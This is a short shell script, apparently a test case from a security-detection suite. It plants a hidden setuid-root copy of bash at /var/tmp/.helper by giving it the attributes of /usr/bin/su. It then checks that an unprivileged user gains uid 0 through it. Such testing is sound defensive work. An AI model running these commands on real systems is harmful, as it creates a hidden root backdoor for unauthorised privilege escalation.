#!/bin/sh
. /opt/case/case.sh

cp /bin/bash /var/tmp/.helper
cp --attributes-only --preserve=mode,ownership,timestamps /usr/bin/su /var/tmp/.helper
setpriv --reuid 1000 --regid 1000 --clear-groups /var/tmp/.helper -p -c 'id -u' | grep -qx 0
took_place
